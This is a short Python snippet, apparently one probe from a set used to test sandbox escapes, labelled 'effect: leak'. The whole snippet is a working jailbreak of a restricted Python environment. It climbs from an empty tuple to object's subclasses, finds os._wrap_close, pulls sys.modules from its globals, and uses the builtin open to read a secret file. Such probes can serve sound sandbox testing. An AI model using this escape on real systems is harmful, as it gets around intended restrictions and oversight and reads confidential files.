# effect: leak
# note: the classic: from a tuple to os._wrap_close and its globals
def attempt(probe):
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == "_wrap_close":
            modules = cls.__init__.__globals__["sys"].modules
            return modules["builtins"].open(probe["secret_file"]).read()
